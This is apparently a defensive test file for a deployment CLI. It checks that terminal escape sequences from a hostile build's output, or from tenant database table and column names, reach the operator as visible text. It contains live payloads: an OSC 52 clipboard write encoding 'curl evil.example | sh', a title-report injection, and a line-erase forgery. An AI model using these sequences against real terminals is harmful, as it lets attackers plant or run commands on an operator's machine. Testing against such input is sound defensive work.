import { asProjectRole } from "../helpers/as-project-role.js";
import { fixtureRepo } from "../helpers/git-repo.js";
import { createTestStack, type TestStack } from "../helpers/test-worker.js";
import { cli } from "../helpers/worker-process.js";

// A hostile build prints terminal control sequences: OSC 52 (writes the operator's clipboard),
// a window-title set and report (the report is typed back into the operator's shell by older
// terminals), a line erase with a carriage return (forges what the log seems to say). The
// operator reads them with `deployments logs` and `deployments show`: each must show on the
// terminal as text, never be obeyed.
/** How long a deploy here may take to end. */
const DEPLOY_WAIT = 180_000;
/** A test's own limit: its deploys' waits, and time for the rest. */
const TIMEOUT = DEPLOY_WAIT + 60_000;
const HOSTILE = [
  "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
  "\x1b]0;owned\x07\x1b[21t",
  "\x1b[2K\rbuild: all good",
  "\x9b2J",
].join("");
let stack: TestStack;

beforeAll(async () => {
  stack = await createTestStack({ SANDBOX: "bwrap" });
  await stack.startWorker();
}, TIMEOUT);
afterAll(async () => {
  await stack?.close();
});

/** Any character a terminal acts on: C0 controls but tab and newline, DEL, C1. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is matched
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

it(
  "a build's control sequences reach the operator's terminal as text",
  async () => {
    const repo = await fixtureRepo("node-http", {
      "scripts/build.js": `console.log(${JSON.stringify(`${HOSTILE} printed`)});\nconsole.error(${JSON.stringify(`${HOSTILE} Error: Cannot find module 'left-pad'`)});\nprocess.exit(1);\n`,
    });
    const id = await stack.deploy({ project: "escapes", repoUrl: repo.dir });
    const record = await stack.waitForEnd(id, DEPLOY_WAIT);
    expect(record.status).toBe("failed");

    const logs = await cli(["deployments", "logs", id], stack.env);
    expect(logs.exitCode).toBe(0);
    const logText = String(logs.stdout);
    expect(logText).toContain("printed");
    expect(logText).toContain("\\x1b]52;c;");
    expect(logText).not.toMatch(CONTROL);

    const show = await cli(["deployments", "show", id], stack.env);
    expect(show.exitCode).toBe(0);
    expect(String(show.stdout)).toContain("left-pad");
    expect(String(show.stdout)).not.toMatch(CONTROL);
  },
  TIMEOUT,
);

it(
  "a tenant's table, column and value with control sequences reach the operator as text",
  async () => {
    expect((await cli(["provision", "--project", "escapes-db"], stack.env)).exitCode).toBe(0);
    const table = `t\x1b]0;owned\x07\x1b[21t`;
    await asProjectRole(stack, "escapes-db", async (client) => {
      const t = client.escapeIdentifier(table);
      const c = client.escapeIdentifier("c\x1b[2K\r");
      await client.query(`CREATE TABLE ${t} (id serial PRIMARY KEY, ${c} text)`);
      await client.query(`INSERT INTO ${t} (${c}) VALUES ($1)`, [HOSTILE]);
    });
    for (const args of [
      ["db", "tables", "--project", "escapes-db"],
      ["db", "schema", "--project", "escapes-db"],
      ["db", "rows", "--project", "escapes-db", "--table", table],
    ]) {
      const run = await cli(args, stack.env);
      expect({ args, exitCode: run.exitCode, stderr: run.stderr }).toMatchObject({ exitCode: 0 });
      expect(String(run.stdout)).toContain("\\x1b");
      expect({ args, stdout: String(run.stdout) }).not.toEqual({
        args,
        stdout: expect.stringMatching(CONTROL),
      });
    }
  },
  TIMEOUT,
);
